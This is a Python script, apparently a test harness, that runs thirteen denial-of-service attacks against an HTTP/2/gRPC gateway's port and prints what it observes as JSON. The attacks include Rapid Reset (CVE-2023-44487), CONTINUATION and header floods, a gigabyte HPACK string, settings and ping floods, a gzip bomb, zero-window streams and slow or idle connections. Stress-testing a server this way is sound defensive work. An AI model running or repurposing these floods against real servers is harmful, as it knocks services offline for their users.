"""What hostile clients do to an HTTP/2 server. Each attack is a function of the port and of
a scale (1: as in the documents), and returns what it saw, to be printed as JSON:

    python3 attacks.py PORT ATTACK [--scale X]
"""

import argparse
import gzip
import json
import resource
import sys
import time

import h2

QUERY = "/pgsluice.v1.GatewayService/Query"
STREAM_QUERY = "/pgsluice.v1.GatewayService/StreamQuery"


def _query(sql):
    statement = h2.field(1, sql.encode())
    return h2.message(h2.field(1, statement))


def _facts(connection, **more):
    # For the server to have its say.
    connection.wait(lambda: connection.goaway is not None, 0.5)
    return {"closed": connection.is_closed, "goaway": connection.goaway, **more}


def rapid_reset(port, scale):
    """CVE-2023-44487: calls begun and cancelled, faster than they can be served."""
    connection = h2.Connection(port)
    pairs, batch = int(100_000 * scale), 200
    headers = h2.call_headers(QUERY)
    reset = h2.CANCEL.to_bytes(4, "big")
    sent, stream = 0, 1
    while sent < pairs:
        data = b""
        for _ in range(batch):
            data += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, headers)
            data += h2.frame(h2.RST_STREAM, 0, stream, reset)
            stream += 2
        if not connection.send(data):
            break
        sent += batch
    return _facts(connection, calls=sent)


def continuation_flood(port, scale):
    """Headers without end, of frames with nothing in them, which no size of headers bounds."""
    connection = h2.Connection(port)
    connection.send(h2.frame(h2.HEADERS, 0, 1, h2.call_headers(QUERY)))
    frames = h2.frame(h2.CONTINUATION, 0, 1) * 1000
    sent = 0
    while sent < 5_000_000 * scale and connection.send(frames):
        sent += 1000
    return _facts(connection, frames=sent)


def header_flood(port, scale):
    """Headers without end, of frames full of them."""
    connection = h2.Connection(port)
    connection.send(h2.frame(h2.HEADERS, 0, 1, h2.call_headers(QUERY)))
    block = b"".join(h2.header(f"x-{i % 10}", "v" * 100) for i in range(140))
    data = h2.frame(h2.CONTINUATION, 0, 1, block) * 16
    sent = 0
    while sent < 200 * 1024 * 1024 * scale and connection.send(data):
        sent += len(data)
    return _facts(connection, bytes=sent)


def big_string(port, scale):
    """CVE-2023-33953: one header that claims a gigabyte, in small pieces."""
    connection = h2.Connection(port)
    start = b"\x00" + h2.hpack_integer(6, 7) + b"x-huge" + h2.hpack_integer(1 << 30, 7)
    connection.send(h2.frame(h2.HEADERS, 0, 1, h2.call_headers(QUERY) + start))
    data = h2.frame(h2.CONTINUATION, 0, 1, b"a" * 16384)
    sent, end = 0, time.monotonic() + 20 * scale
    while time.monotonic() < end and sent < 1 << 30 and connection.send(data):
        sent += len(data)
    return _facts(connection, bytes=sent)


def settings_flood(port, scale):
    """Each has to be acknowledged, and changes the table of headers."""
    connection = h2.Connection(port)
    pair = (h2.settings((h2.SETTING_HEADER_TABLE_SIZE, 0))
            + h2.settings((h2.SETTING_HEADER_TABLE_SIZE, 65536)))
    sent = 0
    while sent < 1_000_000 * scale and connection.send(pair * 100):
        sent += 200
    return _facts(connection, frames=sent)


def ping_flood(port, scale):
    connection = h2.Connection(port)
    pings = h2.frame(h2.PING, 0, 0, b"12345678") * 100
    sent = 0
    while sent < 1_000_000 * scale and connection.send(pings):
        sent += 100
    return _facts(connection, frames=sent)


def bad_binary_header(port, scale):
    """CVE-2023-32732: base64 that is none."""
    del scale
    connection = h2.Connection(port)
    headers = h2.call_headers(QUERY, [("x-bad-bin", "a=b=c")])
    connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, headers)
                    # Whole, so that a proxy hands it on.
                    + h2.frame(h2.DATA, h2.END_STREAM, 1, h2.message(b"")))
    connection.wait(lambda: 1 in connection.ended, 2)
    return _facts(connection, refused=1 in connection.ended)


def zip_bomb(port, scale):
    """Few bytes that unpack to many."""
    connection = h2.Connection(port)
    body = h2.message(gzip.compress(bytes(int((1 << 30) * scale)), 9), is_compressed=True)
    headers = h2.call_headers(QUERY, [("grpc-encoding", "gzip")])
    connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, headers))
    is_sent = connection.send_body(1, body)
    connection.send(h2.frame(h2.DATA, h2.END_STREAM, 1))
    connection.wait(lambda: 1 in connection.ended, 20)
    return _facts(connection, bytes=len(body), sent=is_sent,
                  refused=1 in connection.ended)


def half_bodies(port, scale):
    """Large messages, each without its last byte."""
    connection = h2.Connection(port)
    size = 4 * 1024 * 1024
    body = h2.message(b"x" * size)[:-1]
    streams = range(1, 2 * int(100 * scale), 2)
    sent = 0
    for stream in streams:
        connection.send(
            h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(QUERY)))
        if not connection.send_body(stream, body, seconds=5):
            break
        sent += len(body)
    time.sleep(3 * scale)
    return _facts(connection, bytes=sent)


def unread_streams(port, scale):
    """Results that nobody reads: a window of zero."""
    connection = h2.Connection(port, [(h2.SETTING_INITIAL_WINDOW_SIZE, 0)])
    body = _query("SELECT repeat('x', 1000) FROM generate_series(1, 1000000)")
    streams = range(1, 2 * int(100 * scale), 2)
    for stream in streams:
        connection.send(
            h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.call_headers(STREAM_QUERY))
            + h2.frame(h2.DATA, h2.END_STREAM, stream, body))
    time.sleep(10 * scale)
    return _facts(connection, streams=len(streams), ended=len(connection.ended))


def _open_many(port, count):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < count + 100:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 100), hard))
        soft = min(hard, count + 100)
    if soft < count + 100:
        print(f"only {soft} files: {soft - 100} connections, not {count}",
              file=sys.stderr)
        count = soft - 100
    sockets = []
    for _ in range(count):
        try:
            sockets.append(h2.connect("127.0.0.1", port, timeout=5))
        except OSError:
            pass
    return sockets


def _count_closed(sockets):
    closed = 0
    for one in sockets:
        one.setblocking(False)
        try:
            while True:
                if not one.recv(4096):
                    closed += 1
                    break
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
    return closed


def idle_connections(port, scale):
    """Connections that have begun well, and then do nothing."""
    count = int(5000 * scale)
    sockets = _open_many(port, count)
    for one in sockets:
        try:
            one.sendall(h2.PREFACE + h2.settings())
        except OSError:
            pass
    time.sleep(5)
    return {"opened": len(sockets), "closed": _count_closed(sockets)}


def slow_handshakes(port, scale):
    """A preface, or a handshake of TLS, that comes a byte a second."""
    sockets = _open_many(port, int(500 * scale))
    begun = time.monotonic()
    closed = 0
    for at in range(20):
        for one in sockets:
            try:
                one.send(h2.PREFACE[at:at + 1])
            except OSError:
                pass
        time.sleep(1)
        closed = _count_closed(sockets)
        if closed == len(sockets):
            break
    return {"opened": len(sockets), "closed": closed,
            "seconds": round(time.monotonic() - begun, 1)}


def connection_storm(port, scale):
    """Connections opened and closed as fast as may be."""
    opened, end = 0, time.monotonic() + 5 * scale
    while time.monotonic() < end:
        try:
            with h2.connect("127.0.0.1", port, timeout=5) as one:
                one.sendall(h2.PREFACE + h2.settings())
            opened += 1
        except OSError:
            pass
    return {"opened": opened}


ATTACKS = {attack.__name__: attack for attack in (
    rapid_reset, continuation_flood, header_flood, big_string, settings_flood, ping_flood,
    bad_binary_header, zip_bomb, half_bodies, unread_streams, idle_connections,
    slow_handshakes, connection_storm)}


def again(attack, port, scale, end):
    """Until `end`, however often it is cut; tells what the last one saw, and how many there were."""
    seen, times, refused = {}, 0, 0
    while times == 0 or time.monotonic() < end:
        try:
            seen = attack(port, scale)
            times += 1
        except OSError:
            refused += 1
            if time.monotonic() >= end:
                break
    return {**seen, "connections": times, "not_connected": refused}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--scale", type=float, default=1)
    parser.add_argument("--again", type=float, default=0, metavar="SECONDS",
                        help="begin it anew whenever it has ended, for so long")
    parser.add_argument("--source", default="", help="address to attack from")
    parser.add_argument("--tls", action="store_true",
                        help="the port wants it; no certificate is looked at")
    arguments = parser.parse_args()
    h2.source = arguments.source
    h2.is_tls_usual = arguments.tls
    begun = time.monotonic()
    attack = ATTACKS[arguments.attack]
    if arguments.again:
        seen = again(attack, arguments.port, arguments.scale, begun + arguments.again)
    else:
        seen = attack(arguments.port, arguments.scale)
    seen["took"] = round(time.monotonic() - begun, 2)
    print(json.dumps(seen))


if __name__ == "__main__":
    main()
